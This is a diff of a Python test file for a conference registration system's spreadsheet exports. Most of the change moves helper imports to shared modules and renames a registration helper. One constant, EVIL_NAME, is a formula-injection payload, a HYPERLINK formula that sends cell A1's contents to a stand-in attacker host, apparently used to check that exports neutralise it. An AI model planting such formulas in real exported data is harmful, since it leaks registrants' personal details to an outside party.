@@ -23,21 +23,11 @@ from conference.core.db import Database
 from conference.core.models import AuditEntry, Registration
 from sessions.models import Kind, RoomCreate, SessionCreate, TimeSlotCreate
 from sessions.workshops import programme
-from tests.conference.test_console_registrations import HTML, register, sign_in
-from tests.conference.test_registration_api import organiser_token, staff_token
-from tests.factories import registration_body
-from tests.sessions.call_support import ORGANISER
+from tests.factories import ORGANISER, registration_body
+from tests.support import HTML, organiser_token, post_registration, sign_in, staff_token
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-
-
-@pytest.fixture
-async def organiser(
-    client: httpx.AsyncClient, database: Database, tickets: dict[str, Any]
-) -> httpx.AsyncClient:
-    await sign_in(client, await organiser_token(database))
-    return client
 
 
 def read_csv(response: httpx.Response) -> list[list[str]]:
@@ -81,7 +71,7 @@ async def erase(database: Database, registration_id: str) -> None:
 async def people(organiser: httpx.AsyncClient, database: Database, tickets: dict[str, Any]) -> dict[str, Any]:
     client = organiser
     made = {
-        "evil": await register(
+        "evil": await post_registration(
             client,
             registration_body(
                 tickets["delegate"],
@@ -94,7 +84,7 @@ async def people(organiser: httpx.AsyncClient, database: Database, tickets: dict
                 email="evil@leeds.gov.uk",
             ),
         ),
-        "plain": await register(
+        "plain": await post_registration(
             client,
             registration_body(
                 tickets["delegate"],
@@ -104,7 +94,7 @@ async def people(organiser: httpx.AsyncClient, database: Database, tickets: dict
                 dietary="Coeliac",
             ),
         ),
-        "erased": await register(
+        "erased": await post_registration(
             client,
             registration_body(
                 tickets["delegate"],
@@ -114,8 +104,10 @@ async def people(organiser: httpx.AsyncClient, database: Database, tickets: dict
                 organisation="Secret Org",
             ),
         ),
-        "gone": await register(client, registration_body(tickets["delegate"], dietary="Vegan")),
-        "quiet": await register(client, registration_body(tickets["delegate"], name="Quentin Quiet")),
+        "gone": await post_registration(client, registration_body(tickets["delegate"], dietary="Vegan")),
+        "quiet": await post_registration(
+            client, registration_body(tickets["delegate"], name="Quentin Quiet")
+        ),
     }
     await erase(database, made["erased"]["id"])
     cancelled = await client.delete(
@@ -123,8 +115,10 @@ async def people(organiser: httpx.AsyncClient, database: Database, tickets: dict
         headers={"authorization": f"Bearer {made['gone']['manage_token']}"},
     )
     assert cancelled.status_code in (200, 204), cancelled.text
-    made["extra"] = await register(client, registration_body(tickets["delegate"], name="Xavier Extra"))
-    made["waiting"] = await register(
+    made["extra"] = await post_registration(
+        client, registration_body(tickets["delegate"], name="Xavier Extra")
+    )
+    made["waiting"] = await post_registration(
         client, registration_body(tickets["delegate"], name="Wanda Waiting", access_needs="Wheelchair user")
     )
     assert made["waiting"]["status"] == "waitlisted"  # capacity 5
